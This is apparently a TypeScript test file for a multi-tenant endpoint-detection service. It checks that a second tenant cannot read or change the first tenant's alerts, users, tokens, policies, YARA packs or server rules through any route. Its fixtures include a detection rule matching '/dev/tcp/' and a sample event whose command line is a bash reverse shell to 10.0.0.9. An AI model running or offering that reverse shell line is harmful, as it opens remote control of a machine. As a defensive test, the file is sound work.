import { test } from 'node:test';
import assert from 'node:assert/strict';
import { TEST_DIALECTS } from '@yamori/db';
import { defaultPolicy } from '@yamori/protocol';
import { detectionEvent, enrollAgent, login, postEvents, startHarness } from './test-support.ts';

/**
 * Walks every tenant route with a second tenant's credentials against the first tenant's objects:
 * nothing may be read or written. A route added later is walked automatically; one without a
 * sample body here fails the test, so nobody can add a route that escapes this check.
 */
for (const kind of TEST_DIALECTS) {
  test(`${kind}: another tenant's objects are neither readable nor writable through any route`, async () => {
    const h = await startHarness(kind);
    try {
      const A = h.tenantId;
      const a = await enrollAgent(h, h.owner, A);
      await postEvents(h.app, a.auth, [detectionEvent('iso-rule')]);
      const req = (method: string, url: string, body?: unknown) => h.owner.request(method, url, body);
      const alertId = ((await req('GET', `/api/v1/tenants/${A}/alerts`)).json() as { items: Array<{ id: string }> }).items[0]?.id;
      const policyId = ((await req('GET', `/api/v1/tenants/${A}/policies`)).json() as Array<{ id: string }>)[0]?.id;
      const groupId = ((await req('GET', `/api/v1/tenants/${A}/groups`)).json() as Array<{ id: string }>)[0]?.id;
      const userId = ((await req('GET', `/api/v1/tenants/${A}/users`)).json() as Array<{ id: string }>)[0]?.id;
      const apiTok = (await req('POST', `/api/v1/tenants/${A}/tokens`, { name: 'auto', role: 'analyst', scope: 'write' })).json() as { token: { id: string } };
      const enrollTokId = ((await req('GET', `/api/v1/tenants/${A}/enrollment-tokens`)).json() as Array<{ id: string }>)[0]?.id;
      const cmd = (await req('POST', `/api/v1/tenants/${A}/agents/${a.agentId}/commands`, { type: 'scan', params: {} })).json() as { id: string };
      const pack = (await req('POST', `/api/v1/tenants/${A}/yara-packs`, { name: 'a-pack', source: 'rule A_Only { condition: true }' })).json() as { id: string };
      const SHELL_RULE = "title: A only\nid: a-only-rule\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {CommandLine|contains: /dev/tcp/}, condition: s}\n";
      const serverRule = (await req('POST', `/api/v1/tenants/${A}/server-rules`, { source: SHELL_RULE })).json() as { id: string };
      assert.ok(alertId && policyId && groupId && userId && enrollTokId && cmd.id && pack.id && serverRule.id);

      // Tenant B: its own owner (a different person) with a full set of rights there.
      const b = await req('POST', `/api/v1/tenants/${A}/users`, { email: 'b-owner@example.com', name: 'B', password: 'correct horse battery', role: 'helpdesk' });
      assert.equal(b.statusCode, 201);
      const bSession = await login(h.app, 'b-owner@example.com', 'correct horse battery');
      // helpdesk in A cannot create tenants; make B's tenant through the owner, then hand it over.
      const tb = (await req('POST', '/api/v1/tenants', { name: 'Tenant B' })).json() as { id: string };
      const B = tb.id;
      await req('POST', `/api/v1/tenants/${B}/users`, { email: 'b-owner@example.com', name: 'B', password: 'irrelevant-password', role: 'owner' });
      await req('DELETE', `/api/v1/tenants/${A}/users/${(b.json() as { id: string }).id}`);
      // The operator who created B leaves it, so B's people and A's people are disjoint.
      assert.equal((await bSession.request('DELETE', `/api/v1/tenants/${B}/users/${userId}`)).statusCode, 204);
      const bToken = ((await bSession.request('POST', `/api/v1/tenants/${B}/tokens`, { name: 'b', role: 'owner', scope: 'write' })).json() as { secret: string }).secret;
      const bAgent = await enrollAgent(h, bSession, B);

      const snapshot = async () =>
        JSON.stringify(
          await Promise.all(
            ['alerts', 'policies', 'groups', 'users', 'tokens', 'enrollment-tokens', 'agents', 'audit', 'settings', `agents/${a.agentId}/commands`, 'yara-packs', `yara-packs/${pack.id}`, 'server-rules', `server-rules/${serverRule.id}`].map(async (p) => (await req('GET', `/api/v1/tenants/${A}/${p}`)).json() as unknown),
          ),
        );
      const before = await snapshot();

      const ids: Record<string, string> = { agentId: a.agentId, alertId, policyId, groupId, userId, revision: '1', packId: pack.id, ruleId: serverRule.id };
      const body: Record<string, unknown> = {
        'PUT /settings': { staleAfterDays: 3, alertDedupWindowMinutes: 5 },
        'POST /users': { email: 'evil@example.com', name: 'Evil', password: 'correct horse battery', role: 'owner' },
        'PATCH /users/:userId': { disabled: true },
        'DELETE /users/:userId': undefined,
        'POST /tokens': { name: 'evil', role: 'owner', scope: 'write' },
        'DELETE /tokens/:tokenId': undefined,
        'POST /enrollment-tokens': { groupId, name: 'evil', expiresInHours: 1 },
        'DELETE /enrollment-tokens/:tokenId': undefined,
        'POST /groups': { name: 'evil', policyId },
        'PATCH /groups/:groupId': { name: 'evil' },
        'POST /policies': { name: 'evil' },
        'POST /policies/:policyId/revisions': { document: defaultPolicy() },
        'POST /policies/:policyId/revisions/:revision/approve': undefined,
        'POST /policies/:policyId/revisions/:revision/deploy': undefined,
        'PATCH /agents/:agentId': { status: 'archived' },
        'POST /agents/:agentId/commands': { type: 'kill', params: { pid: 1 } },
        'PATCH /alerts/:alertId': { status: 'resolved', resolution: 'benign' },
        'POST /verdicts': { sha256: 'b'.repeat(64), verdict: 'malicious' },
        'POST /yara-packs': { name: 'evil', source: 'rule Evil { condition: true }' },
        'PATCH /yara-packs/:packId': { source: 'rule Evil { condition: true }' },
        'POST /yara-packs/:packId/enable': undefined,
        'POST /yara-packs/:packId/disable': undefined,
        'DELETE /yara-packs/:packId': undefined,
        'POST /server-rules': { source: SHELL_RULE.replace('a-only-rule', 'evil-rule') },
        'PATCH /server-rules/:ruleId': { enabled: false },
        'DELETE /server-rules/:ruleId': undefined,
        'POST /hunts': { rule: 'title: t\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image|endswith: /true}, condition: s}\n' },
      };
      const prefix = '/api/v1/tenants/:tenantId';
      const tenantRoutes = h.routes.filter((r) => r.url.startsWith(prefix) && r.url !== prefix);
      assert.ok(tenantRoutes.length >= 25, `walked ${tenantRoutes.length} routes`);
      for (const r of tenantRoutes) {
        const rest = r.url.slice(prefix.length);
        const key = `${r.method} ${rest}`;
        if (r.method !== 'GET') assert.ok(key in body, `no sample body for ${key}: add one so the route is walked`);
        const fill = (tenant: string) =>
          r.url
            .replace(':tenantId', tenant)
            .replace(':tokenId', rest.startsWith('/enrollment-tokens') ? enrollTokId : apiTok.token.id)
            .replace(/:([A-Za-z]+)/g, (_, n: string) => ids[n] ?? 'x');
        const attempts = [
          // B's session, A's tenant id.
          () => bSession.request(r.method, fill(A), body[key]),
          // B's API token, A's tenant id.
          () => h.app.inject({ method: r.method as 'GET', url: fill(A), headers: { authorization: `Bearer ${bToken}` }, ...(body[key] === undefined ? {} : { payload: body[key] as object }) }),
        ];
        // B's own tenant id with A's object ids (only routes that name an object).
        if (/:[a-z]+Id|:revision/.test(rest)) attempts.push(() => bSession.request(r.method, fill(B), body[key]));
        for (const attempt of attempts) {
          const res = await attempt();
          assert.ok([403, 404].includes(res.statusCode), `${key} answered ${res.statusCode}: ${res.body.slice(0, 200)}`);
        }
      }
      // Agent API: B's agent cannot complete A's command.
      const r = await h.app.inject({ method: 'POST', url: `/api/agent/v1/commands/${cmd.id}/result`, headers: { authorization: bAgent.auth }, payload: { status: 'done' } });
      assert.equal(r.statusCode, 404);
      // Agent API: B's agent gets B's YARA packs, never A's.
      const bundle = await h.app.inject({ method: 'GET', url: '/api/agent/v1/yara-rules', headers: { authorization: bAgent.auth } });
      assert.deepEqual((bundle.json() as { packs: unknown[] }).packs, []);
      // Agent API: B's agent's events are never evaluated with A's server rules.
      const shell = { '@timestamp': new Date().toISOString(), event: { id: crypto.randomUUID(), dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' }, process: { entity_id: 'b1', pid: 7, executable: '/usr/bin/bash', command_line: 'bash -i >& /dev/tcp/10.0.0.9/1 0>&1' } };
      assert.equal((await postEvents(h.app, bAgent.auth, [shell])).statusCode, 200);
      await h.serverRules.idle();
      const bAlerts = (await bSession.request('GET', `/api/v1/tenants/${B}/alerts`)).json() as { items: unknown[] };
      assert.deepEqual(bAlerts.items, []);
      assert.equal(await snapshot(), before, "tenant A's data is unchanged");
    } finally {
      await h.close();
    }
  });
}
